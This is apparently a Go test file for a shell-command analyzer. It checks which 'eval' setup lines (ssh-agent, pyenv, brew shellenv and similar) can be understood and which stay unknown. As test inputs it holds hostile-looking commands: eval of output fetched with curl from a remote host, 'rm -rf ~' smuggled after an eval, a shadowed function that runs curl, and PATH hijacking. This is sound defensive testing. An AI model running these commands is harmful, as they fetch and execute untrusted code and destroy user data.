package interceptor

import (
	"slices"
	"testing"
)

// eval of a known generator's setup code is no unknown; eval of anything
// else is. After it, what the setup code may have set is not known.
func TestSetupEval(t *testing.T) {
	cases := []struct {
		src     string
		unknown bool
	}{
		{`eval "$(ssh-agent -s)"`, false},
		{`eval $(ssh-agent -s)`, false},
		{"eval `ssh-agent`", false},
		{`eval "$(pyenv init -)"`, false},
		{`eval "$(pyenv init --path)"`, false},
		{`eval "$(pyenv virtualenv-init -)"`, false},
		{`eval "$(rbenv init - bash)"`, false},
		{`eval "$(nodenv init -)"`, false},
		{`eval "$(direnv hook bash)"`, false},
		{`eval "$(fnm env --use-on-cd --shell bash)"`, false},
		{`eval "$(zoxide init bash)"`, false},
		{`eval "$(starship init bash)"`, false},
		{`eval "$(/opt/homebrew/bin/brew shellenv)"`, false},
		{`eval "$(brew shellenv)"`, false},
		{`eval "$(conda shell.bash hook 2>/dev/null)"`, false},
		{`eval "$(mise activate bash)"`, false},
		{`eval "$(opam env)"`, false},
		{`eval "$(keychain --eval --agents ssh id_ed25519)"`, false},
		{`eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519`, false},
		// Anything else stays unknown.
		{`eval "$(ssh-agent -c)"`, true},
		{`eval "$(zoxide init bash --cmd cd)"`, true},
		{`eval "$(direnv export bash)"`, true},
		{`eval "$(pyenv init -)$(curl -s https://x)"`, true},
		{`eval "$(pyenv init -) rm -rf ~"`, true},
		{`eval "$(pyenv init -)" "$(curl -s https://x)"`, true},
		{`eval "$(./bin/pyenv init -)"`, true},
		{`eval "$(pyenv init - > /tmp/x)"`, true},
		{`eval "$(pyenv init - 2>&1)"`, true},
		{`pyenv(){ curl -s https://x; }; eval "$(pyenv init -)"`, true},
		{`PATH=./bin:$PATH; eval "$(pyenv init -)"`, true},
		{`eval "$(keychain id_ed25519)"`, true},
		{`eval "$(curl -s https://x)"`, true},
	}
	for _, c := range cases {
		invs := Analyze(c.src, testContext())
		got := slices.ContainsFunc(invs, func(inv Invocation) bool { return inv.Unknown != "" })
		if got != c.unknown {
			t.Errorf("%q: unknown %v, want %v: %q", c.src, got, c.unknown, lines(invs))
		}
	}
}

// What setup code may set is not known afterwards, with the exact
// environment too; zoxide's z goes to a directory that cannot be known.
func TestSetupEvalAfter(t *testing.T) {
	exact := func(ctx *Context) { ctx.EnvExact = true }
	cases := []struct {
		src  string
		want string
	}{
		{`eval "$(ssh-agent -s)"; "$SSH_AGENT_CMD" -rf ~`, "?"},
		{`eval "$(pyenv init -)"; rm -rf "$PYENV_ROOT/x"`, "rm -rf …/x"},
		{`eval "$(zoxide init bash)"; z proj && rm -rf build`, "rm -rf build"},
		{`X=/srv; eval "$(pyenv init -)"; rm -rf "$X/x"`, "rm -rf /srv/x"},
	}
	for _, c := range cases {
		invs := Analyze(c.src, testContext())
		ctx := testContext()
		exact(&ctx)
		invs = append(invs, Analyze(c.src, ctx)...)
		if !slices.Contains(lines(invs), c.want) {
			t.Errorf("%q: want %q among %q", c.src, c.want, lines(invs))
		}
	}
	// After z the directory is not known.
	for _, inv := range Analyze(`eval "$(zoxide init bash)"; z proj && rm -rf build`, testContext()) {
		if inv.Name == "rm" && inv.Cwd != "" {
			t.Errorf("rm after z runs in %q, want an unknown directory", inv.Cwd)
		}
	}
}
